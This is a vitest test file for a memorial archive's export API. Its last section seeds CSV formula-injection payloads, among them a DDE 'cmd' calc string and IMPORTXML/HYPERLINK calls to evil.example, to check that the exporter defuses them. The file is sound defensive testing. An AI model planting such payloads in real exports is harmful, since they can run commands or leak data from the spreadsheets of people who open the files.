import { beforeAll, describe, expect, it } from "vitest";
import { exportFormat } from "../../src/exchange/exports/export.formats";
import { exportStream } from "../../src/exchange/exports/export.stream";
import { CSV_COLUMNS, csvField } from "../../src/exchange/exports/csv-columns";
import { request, testDb } from "../helpers/app";
import { publishMemorial } from "../helpers/memorials";
import { personDocument, readCsv, SECRET_NAMES, seedArchive } from "./fixtures";

let seed: Awaited<ReturnType<typeof seedArchive>>;
beforeAll(async () => {
  seed = await seedArchive();
});

function expectNoSecrets(text: string) {
  for (const name of SECRET_NAMES) expect(text).not.toContain(name.split(" ")[0]);
  expect(text).not.toContain(seed.withheld.memorialId);
  expect(text).not.toContain(seed.merged.memorialId);
}

describe("bulk exports of published memorials", () => {
  it("JSON Lines: one published memorial per line with its stable id, licence and date", async () => {
    const res = await request("/api/v1/export.jsonl");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toContain("application/x-ndjson");
    expect(res.headers.get("link")).toContain("creativecommons.org/licenses/by-sa/4.0");
    const bytes = new Uint8Array(await res.arrayBuffer());
    // JSON texts never begin with a byte-order mark (RFC 8259): only CSV and GEDCOM get one.
    expect(bytes[0]).toBe("{".charCodeAt(0));
    const text = new TextDecoder().decode(bytes);
    expectNoSecrets(text);
    const lines = text.trimEnd().split("\n").map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines.map((l) => l.id)).toEqual(seed.published.map((p) => p.memorialId).sort());
    const zucker = lines.find((l) => l.id === seed.published[0]!.memorialId)!;
    expect(zucker).toMatchObject({ licence: "CC-BY-SA-4.0", revision_id: seed.published[0]!.revisionId });
    expect(zucker.published_at).toMatch(/^\d{4}-\d\d-\d\dT/);
    // The document round-trips: the API accepts it as a submission's document.
    expect(zucker.document).toEqual(seed.published[0]!.document);
  });

  it("CSV: RFC 4180 with CRLF, quoted fields kept intact, formulas defused, one row per memorial", async () => {
    const res = await request("/api/v1/export.csv");
    expect(res.headers.get("content-type")).toContain("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/attachment; filename="zeugnis-memorials-\d{4}-\d\d-\d\d\.csv"/);
    const bytes = new Uint8Array(await res.arrayBuffer());
    // A byte-order mark first, so that spreadsheet programs read UTF-8 (Cyrillic names, umlauts).
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    expect(text.startsWith("id,")).toBe(true);
    expectNoSecrets(text);
    const [header, ...rows] = readCsv(text);
    expect(header).toEqual(CSV_COLUMNS.map(([name]) => name));
    expect(rows).toHaveLength(3);
    const col = (name: string) => header!.indexOf(name);
    const anna = rows.find((r) => r[col("id")] === seed.published[1]!.memorialId)!;
    expect(anna[col("name")]).toBe('Anna "Nina" Weiß, geb. Schmidt');
    expect(anna[col("other_names")]).toBe("Анна Вайс (transliteration)");
    expect(anna[col("licence")]).toBe("CC-BY-SA-4.0");
    const kowalski = rows.find((r) => r[col("id")] === seed.published[2]!.memorialId)!;
    expect(kowalski[col("name")]).toBe("'=HYPERLINK Kowalski");
    const zucker = rows.find((r) => r[col("id")] === seed.published[0]!.memorialId)!;
    expect(zucker[col("death_date")]).toBe("1941-10-23");
    expect(zucker[col("death_place")]).toBe("Warsaw Ghetto");
  });

  it("JSON-LD: a schema.org Dataset with licence and date, and a page with its Person per memorial", async () => {
    const res = await request("/api/v1/export.jsonld");
    const text = await res.text();
    expectNoSecrets(text);
    const doc = JSON.parse(text) as { "@context": string; "@graph": Array<Record<string, unknown>> };
    expect(doc["@context"]).toBe("https://schema.org");
    const [dataset, ...pages] = doc["@graph"];
    expect(dataset).toMatchObject({ "@type": "Dataset", license: "https://creativecommons.org/licenses/by-sa/4.0/" });
    expect(dataset!.dateModified).toBe(res.headers.get("x-data-modified"));
    const people = pages.map((p) => p.mainEntity as Record<string, unknown>);
    expect(people.map((p) => p.identifier).sort()).toEqual(seed.published.map((p) => p.memorialId).sort());
    expect(pages.every((p) => p["@type"] === "ProfilePage" && p.license)).toBe(true);
    expect(people.every((p) => p["@type"] === "Person" && !("license" in p))).toBe(true);
  });

  it("is cacheable: unchanged data answers 304, a withholding changes the ETag and date", async () => {
    const first = await request("/api/v1/export.jsonl");
    const etag = first.headers.get("etag")!;
    const lastModified = first.headers.get("last-modified")!;
    expect(first.headers.get("cache-control")).toContain("public");
    expect((await request("/api/v1/export.jsonl", { headers: { "if-none-match": etag } })).status).toBe(304);
    expect((await request("/api/v1/export.jsonl", { headers: { "if-modified-since": lastModified } })).status).toBe(304);
    expect((await request("/api/v1/export.csv", { headers: { "if-none-match": etag } })).status).toBe(200);

    const extra = await publishMemorial(personDocument("Later Person"));
    const withhold = await request(`/api/v1/moderation/memorials/${extra.memorialId}/withhold`, {
      method: "POST",
      cookie: seed.moderator.cookie,
      json: { version: 1, reason: "Takedown" },
    });
    expect(withhold.status).toBe(200);
    const after = await request("/api/v1/export.jsonl", { headers: { "if-none-match": etag } });
    expect(after.status).toBe(200);
    expect(after.headers.get("etag")).not.toBe(etag);
    expect(await after.text()).not.toContain("Later Person");
  });

  it("streams page by page: pages of two give the same file as one page", async () => {
    const read = (pageSize: number) =>
      new Response(exportStream(testDb(), exportFormat("jsonl", "https://zeugnis.test", ""), pageSize)).text();
    const small = await read(2);
    expect(small).toBe(await read(1000));
    const ids = small.trimEnd().split("\n").map((l) => (JSON.parse(l) as { id: string }).id);
    expect(ids).toEqual([...ids].sort());
    expect(new Set(ids).size).toBe(ids.length);
  });
});

describe("a spreadsheet opening the CSV export", () => {
  it("runs nothing: every cell that starts like a formula, whatever column, starts with an apostrophe", async () => {
    const doc = personDocument("-2+3+cmd|' /C calc'!A0 Kowalski");
    doc.names![0]!.given = "@SUM(1+1)";
    doc.names!.push({ kind: "alias", display: "＝HYPERLINK(\"http://evil.example\")", script: "Latn" });
    doc.events![2]!.place = { name: "+Warschau", modern_name: "－Warsaw" };
    doc.sources![0]!.citation = "=IMPORTXML(\"http://evil.example\", \"//a\")";
    const { memorialId } = await publishMemorial(doc);
    const [header, ...rows] = readCsv(await (await request("/api/v1/export.csv")).text());
    const row = rows.find((r) => r[header!.indexOf("id")] === memorialId)!;
    const cell = (name: string) => row[header!.indexOf(name)];
    expect(cell("name")).toBe("'-2+3+cmd|' /C calc'!A0 Kowalski");
    expect(cell("given_name")).toBe("'@SUM(1+1)");
    expect(cell("death_place")).toBe("'+Warschau");
    expect(cell("death_place_modern")).toBe("'－Warsaw");
    expect(cell("sources")).toBe("'=IMPORTXML(\"http://evil.example\", \"//a\")");
    expect(cell("other_names")).toContain("＝HYPERLINK");
    expect(cell("other_names")!.startsWith("'")).toBe(true);
    for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
  });

  it("defuses tab, carriage return and the full-width signs, and leaves ordinary text alone", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]) {
      const field = csvField(`${start}1+1`);
      expect(readCsv(`${field}\r\n`)[0]![0], JSON.stringify(start)).toBe(`'${start}1+1`);
    }
    for (const plain of ["Max Zucker", "1941-10-23", "Анна Вайс", "אנה", "'quoted", "a-b", "../1938"]) {
      expect(readCsv(`${csvField(plain)}\r\n`)[0]![0]).toBe(plain);
    }
  });
});
